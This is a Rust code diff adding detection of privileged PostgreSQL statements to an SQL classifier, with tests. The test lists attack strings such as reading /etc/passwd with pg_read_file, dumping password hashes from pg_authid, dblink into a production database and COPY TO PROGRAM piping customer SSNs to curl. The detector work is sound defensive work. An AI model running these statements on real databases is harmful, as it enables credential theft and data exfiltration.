@@ -61,15 +61,16 @@
 //!   `TRUNCATE … CASCADE`, `DROP OWNED`): only named tables are listed.
 
 mod destructive;
+pub mod privileged;
 pub mod server_code;
 mod tautology;
 
 use std::ops::ControlFlow;
 
 use sqlparser::ast::{
-    BinaryOperator, CommentObject, CopySource, Expr, FromTable, FunctionArg, FunctionArgExpr,
-    FunctionArguments, GrantObjects, MergeAction, ObjectName, ObjectType, Query, Set, SetExpr,
-    Statement, TableFactor, TableObject, Visit, Visitor,
+    BinaryOperator, CommentObject, CopySource, CopyTarget, Expr, FromTable, FunctionArg,
+    FunctionArgExpr, FunctionArguments, GrantObjects, MergeAction, ObjectName, ObjectType, Query,
+    Set, SetExpr, Statement, TableFactor, TableObject, Visit, Visitor,
 };
 
 use crate::{
@@ -79,6 +80,7 @@ use crate::{
     parsed::{ParsedSql, ParsedStatement},
 };
 use hoop_core::StatementKind;
+pub use privileged::Privileged;
 pub use server_code::ServerCode;
 use tautology::Target;
 
@@ -109,6 +111,11 @@ pub struct ClassifiedStatement {
     /// It is in the `destructive_ddl` group (also for unparsed statements
     /// whose leading words say so).
     pub destructive_ddl: bool,
+    /// It takes a privileged path around the query (server files, raw
+    /// storage, planner statistics, other databases…), and which (the
+    /// first found). Also set for unparsed statements whose leading words
+    /// say so. `policy.privileged` decides it.
+    pub privileged: Option<Privileged>,
     /// Its command tag's row count is the number of rows it writes or
     /// returns: a plain `SELECT`, `INSERT`, `UPDATE`, `DELETE` or `MERGE`
     /// that executes no other data-modifying statement (a `max_rows` dry run
@@ -129,6 +136,7 @@ impl ClassifiedStatement {
             unparsed_reason: None,
             server_code: None,
             destructive_ddl: false,
+            privileged: None,
             rows_reported: false,
         }
     }
@@ -184,12 +192,27 @@ fn classify_one(
     statement: &ParsedStatement<'_>,
     dialect: &'static dyn SqlDialect,
 ) -> ClassifiedStatement {
-    match &statement.ast {
+    let mut classified = match &statement.ast {
         Ok(ast) => classify_parsed(ast, dialect, statement.current_of.is_some()),
         Err(e @ ParseFailure::Several(_)) => from_words(statement.text, dialect, e.to_string()),
         Err(ParseFailure::Syntax(e)) => from_words(statement.text, dialect, e.clone()),
+    };
+    // The privileged statement forms, by their leading words, whether the
+    // SQL library read the statement or not (it reads some of them only in
+    // part, e.g. `CREATE FOREIGN TABLE` as a table).
+    if classified.privileged.is_none()
+        && dialect
+            .first_word(statement.text)
+            .is_some_and(|w| privileged::may_start_form(&w))
+    {
+        classified.privileged =
+            privileged::from_words(&dialect.leading_words(statement.text, PRIVILEGED_WORDS));
     }
+    classified
 }
+
+/// How many leading words the privileged statement forms are read by.
+const PRIVILEGED_WORDS: usize = 6;
 
 /// How many leading words an unparsed statement is read by.
 const LEADING_WORDS: usize = 32;
@@ -203,6 +226,7 @@ fn from_words(text: &str, dialect: &dyn SqlDialect, reason: String) -> Classifie
     let words = dialect.leading_words(text, LEADING_WORDS);
     let server_code = server_code::from_words(&words);
     let destructive_ddl = destructive::from_words(&words);
+    let privileged = privileged::from_words(&words);
     match words.first().map(String::as_str) {
         Some("do") => ClassifiedStatement {
             opaque: true,
@@ -227,6 +251,7 @@ fn from_words(text: &str, dialect: &dyn SqlDialect, reason: String) -> Classifie
                 nested: named.into_iter().collect(),
                 server_code,
                 destructive_ddl,
+                privileged,
                 ..ClassifiedStatement::unparsed(reason)
             }
         }
@@ -288,6 +313,7 @@ fn classify_parsed(
         unparsed_reason: None,
         server_code: collector.server_code,
         destructive_ddl: collector.destructive_ddl,
+        privileged: collector.privileged,
         rows_reported,
     }
 }
@@ -452,6 +478,7 @@ struct Collector {
     table_function: Option<ObjectName>,
     server_code: Option<ServerCode>,
     destructive_ddl: bool,
+    privileged: Option<Privileged>,
     /// Data-modifying statements (INSERT, UPDATE, DELETE, MERGE) it executes.
     writes: usize,
     /// It executes a COPY (its count is not a dry run's to take).
@@ -476,6 +503,7 @@ impl Collector {
             table_function: None,
             server_code: None,
             destructive_ddl: false,
+            privileged: None,
             writes: 0,
             copies: false,
             positioned: None,
@@ -488,10 +516,20 @@ impl Collector {
         }
     }
 
-    /// Notes a call of `name`, server code unless it is built in.
+    fn privileged(&mut self, path: Privileged) {
+        if self.privileged.is_none() {
+            self.privileged = Some(path);
+        }
+    }
+
+    /// Notes a call of `name`: server code unless it is built in, and a
+    /// privileged path when the dialect says so.
     fn call(&mut self, name: &ObjectName) {
         if self.dialect.routine(name) == Routine::NotBuiltIn {
             self.server_code(ServerCode::Calls(name.to_string()));
+        }
+        if let Some(what) = self.dialect.privileged_routine(name) {
+            self.privileged(Privileged::Routine(name.to_string(), what));
         }
     }
 
@@ -506,6 +544,11 @@ impl Collector {
     }
 
     fn table(&mut self, table: TableRef) {
+        if self.privileged.is_none()
+            && let Some(what) = self.dialect.privileged_relation(&table)
+        {
+            self.privileged(Privileged::Relation(table.to_string(), what));
+        }
         if !self.tables.contains(&table) {
             self.tables.push(table);
         }
@@ -601,6 +644,13 @@ impl Visitor for Collector {
             self.destructive_ddl = true;
         }
         let mut inner_executes = self.executing();
+        if let Statement::Copy { target, .. } = statement {
+            match target {
+                CopyTarget::Program { .. } => self.privileged(Privileged::CopyProgram),
+                CopyTarget::File { .. } => self.privileged(Privileged::CopyServerFile),
+                CopyTarget::Stdin | CopyTarget::Stdout => {}
+            }
+        }
         match statement {
             Statement::Explain {
                 analyze, options, ..
@@ -1326,6 +1376,88 @@ mod tests {
         ] {
             assert_eq!(code(innocent), None, "{innocent}");
         }
+    }
+
+    #[test]
+    fn privileged_paths_are_recognised_parsed_or_not() {
+        let privileged = |sql: &str| {
+            let all = classify(sql);
+            all.iter().find_map(|s| s.privileged.clone())
+        };
+        for attack in [
+            "SELECT pg_read_file('/etc/passwd')",
+            "SELECT pg_catalog.pg_read_binary_file('global/pg_control')",
+            "SELECT * FROM pg_ls_dir('.')",
+            "SELECT name FROM pg_ls_logdir()",
+            "SELECT * FROM pg_catalog.pg_ls_waldir()",
+            "SELECT pg_current_logfile()",
+            "SELECT lo_import('/etc/passwd')",
+            "SELECT lo_export(16400, '/tmp/out')",
+            "SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)",
+            "SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers'",
+            "SELECT histogram_bounds FROM pg_catalog.pg_stats",
+            "SELECT * FROM \"pg_stats\"",
+            "SELECT s.* FROM (SELECT * FROM pg_statistic) s",
+            "WITH x AS (SELECT * FROM pg_stats_ext) SELECT * FROM x",
+            "SELECT 1 WHERE EXISTS (SELECT 1 FROM pg_stats_ext_exprs)",
+            "TABLE pg_stats",
+            "SELECT * FROM pg_mcv_list_items(NULL)",
+            "SELECT rolpassword FROM pg_authid",
+            "SELECT * FROM pg_hba_file_rules",
+            "SELECT * FROM heap_page_items(get_raw_page('customers', 0))",
+            "SELECT * FROM public.get_raw_page('customers', 0)",
+            "SELECT * FROM dblink('dbname=prod', 'SELECT ssn FROM customers') AS t(s text)",
+            "SELECT dblink_exec('dbname=prod', 'DROP TABLE customers')",
+            "SELECT pg_file_write('/tmp/x', 'y', false)",
+            "SELECT heap_force_kill('customers'::regclass, ARRAY['(0,1)'::tid])",
+            "COPY customers TO '/tmp/customers.csv'",
+            "COPY customers FROM '/tmp/customers.csv'",
+            "COPY (SELECT ssn FROM customers) TO PROGRAM 'curl -d @- http://x'",
+            "COPY customers FROM PROGRAM 'cat /etc/passwd'",
+            "CREATE EXTENSION pageinspect",
+            "CREATE EXTENSION IF NOT EXISTS dblink",
+            "ALTER EXTENSION dblink UPDATE",
+            "CREATE SERVER prod FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'prod')",
+            "CREATE FOREIGN TABLE f (s text) SERVER prod",
+            "IMPORT FOREIGN SCHEMA public FROM SERVER prod INTO staging",
+            "CREATE USER MAPPING FOR CURRENT_USER SERVER prod OPTIONS (user 'x')",
+            "ALTER SYSTEM SET archive_command = 'cp %p /tmp/%f'",
+            "alter   system reset all",
+            "SELECT 1; SELECT pg_read_file('postgresql.conf')",
+        ] {
+            assert!(privileged(attack).is_some(), "{attack}");
+        }
+        for innocent in [
+            "SELECT * FROM customers",
+            "SELECT read_file FROM files",
+            "SELECT * FROM app.pg_stats",
+            "SELECT * FROM stats",
+            "SELECT pg_stat_get_numscans(1)",
+            "SELECT * FROM pg_stat_user_tables",
+            "SELECT * FROM pg_stat_activity",
+            "SELECT lo_open(16400, 262144)",
+            "COPY customers TO STDOUT",
+            "COPY customers FROM STDIN",
+            "COPY (SELECT 1) TO STDOUT WITH (FORMAT csv)",
+            "CREATE TABLE server (id int)",
+            "CREATE TABLE system (id int)",
+            "ALTER TABLE system ADD COLUMN x int",
+            "CREATE USER mapping WITH LOGIN",
+            "SELECT 'pg_read_file(''/etc/passwd'')'",
+            "-- SELECT pg_read_file('x')\nSELECT 1",
+            "SELECT app.pg_read_file('x')",
+        ] {
+            assert_eq!(privileged(innocent), None, "{innocent}");
+        }
+        let copy = one("COPY customers TO PROGRAM 'gzip > /tmp/x'");
+        assert_eq!(copy.privileged, Some(Privileged::CopyProgram));
+        assert_eq!(
+            one("SELECT pg_read_file('x')")
+                .privileged
+                .unwrap()
+                .to_string(),
+            "`pg_read_file` reads files on the server"
+        );
     }
 
     #[test]
